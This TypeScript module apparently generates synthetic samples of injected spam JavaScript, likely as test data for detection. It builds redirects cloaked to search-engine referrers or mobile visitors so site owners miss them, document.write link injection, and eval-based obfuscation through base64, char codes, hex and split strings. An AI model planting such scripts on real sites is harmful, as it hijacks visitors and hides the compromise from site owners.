/**
 * The JavaScript of injected redirects and link writers, plain and obfuscated the ways kits do
 * it. Each builder returns script source (no <script> tag) so callers can wrap it in any form.
 */
import type { Rand } from './spam-lexicon.ts';
import { chance, int, pick } from './spam-lexicon.ts';

const q = (r: Rand) => (chance(r, 0.5) ? '"' : "'");

export function plainRedirect(r: Rand, url: string): string {
  const s = q(r);
  const forms = [
    `location.href=${s}${url}${s};`,
    `window.location.replace(${s}${url}${s});`,
    `window.location=${s}${url}${s};`,
    `top.location.href=${s}${url}${s};`,
    `document.location.assign(${s}${url}${s});`,
    `setTimeout(function(){window.location.href=${s}${url}${s}},${pick(r, [0, 100, 500, 1500, 3000])});`,
    `window.location.href = ${s}${url}${s} + window.location.search;`,
  ];
  return pick(r, forms);
}

/** Only visitors coming from a search engine are sent away: the site owner never sees it. */
export function refererRedirect(r: Rand, url: string): string {
  const s = q(r);
  const body = plainRedirect(r, url);
  const forms = [
    `if(document.referrer.indexOf(${s}google${s})>-1){${body}}`,
    `var ref=document.referrer;if(/google|bing|yahoo|coccoc/i.test(ref)){${body}}`,
    `(function(){var r=document.referrer||"";if(r.match(/google\\.|bing\\.|coccoc\\.|yandex\\./)&&!document.cookie.match(/_v=1/)){document.cookie="_v=1;path=/";${body}}})();`,
    `if (document.referrer && document.referrer.search(/(google|bing)\\./i) !== -1) { ${body} }`,
  ];
  return pick(r, forms);
}

/** Only phones are sent away (the admin checks from a desktop). */
export function mobileRedirect(r: Rand, url: string): string {
  const body = plainRedirect(r, url);
  const forms = [
    `if(/Android|iPhone|iPad|iPod|Mobile/i.test(navigator.userAgent)){${body}}`,
    `var ua=navigator.userAgent.toLowerCase();if(ua.indexOf("android")>-1||ua.indexOf("iphone")>-1){${body}}`,
    `if(window.innerWidth<768&&("ontouchstart" in window)){${body}}`,
  ];
  return pick(r, forms);
}

/** Writes markup into the page at load time (links never appear in the served HTML as tags). */
export function documentWrite(r: Rand, html: string): string {
  const s = q(r);
  const esc = html.replaceAll('\\', '\\\\').replaceAll(s, `\\${s}`).replace(/\n/g, '');
  return `document.write(${s}${esc}${s});`;
}

function base64(s: string): string {
  return Buffer.from(s, 'utf8').toString('base64');
}

function charCodes(s: string): string {
  return [...s].map((c) => c.charCodeAt(0)).join(',');
}

function hexEscape(s: string): string {
  return [...Buffer.from(s, 'utf8')].map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join('');
}

function percentEscape(s: string): string {
  return [...Buffer.from(s, 'utf8')].map((b) => `%${b.toString(16).toUpperCase().padStart(2, '0')}`).join('');
}

export type Obfuscation = 'atob' | 'fromcharcode' | 'hex' | 'unescape' | 'reverse' | 'parts';

export const OBFUSCATIONS: Obfuscation[] = ['atob', 'fromcharcode', 'hex', 'unescape', 'reverse', 'parts'];

/** Wraps arbitrary script source so that neither the URL nor the keywords appear in clear. */
export function obfuscate(r: Rand, how: Obfuscation, js: string): string {
  const v = `_0x${int(r, 0x1000, 0xffff).toString(16)}`;
  switch (how) {
    case 'atob':
      return pick(r, [
        `eval(atob('${base64(js)}'));`,
        `eval(window.atob("${base64(js)}"))`,
        `var ${v}=atob("${base64(js)}");eval(${v});`,
        `Function(atob('${base64(js)}'))();`,
      ]);
    case 'fromcharcode':
      return pick(r, [`eval(String.fromCharCode(${charCodes(js)}));`, `var ${v}=String.fromCharCode(${charCodes(js)});(new Function(${v}))();`]);
    case 'hex':
      return pick(r, [`eval("${hexEscape(js)}");`, `var ${v}=["${hexEscape(js)}"];eval(${v}[0]);`]);
    case 'unescape':
      return `eval(unescape('${percentEscape(js)}'));`;
    case 'reverse':
      return `eval(${JSON.stringify([...js].reverse().join(''))}.split("").reverse().join(""));`;
    case 'parts': {
      const parts: string[] = [];
      for (let i = 0; i < js.length; ) {
        const n = int(r, 3, 9);
        parts.push(js.slice(i, i + n));
        i += n;
      }
      return `var ${v}=${JSON.stringify(parts)};eval(${v}.join(""));`;
    }
  }
}

/** The classic form of written markup: document.write(unescape('%3C…')). */
export function unescapeWrite(html: string): string {
  return `document.write(unescape('${percentEscape(html)}'));`;
}

/** A URL assembled at run time only, with the rest of the redirect in clear. */
export function hiddenUrlRedirect(r: Rand, url: string): string {
  const v = `_${int(r, 100, 999)}`;
  return pick(r, [
    `var ${v}="${hexEscape(url)}";window.location.href=${v};`,
    `var ${v}=String.fromCharCode(${charCodes(url)});location.replace(${v});`,
    `window.location=atob("${base64(url)}");`,
  ]);
}
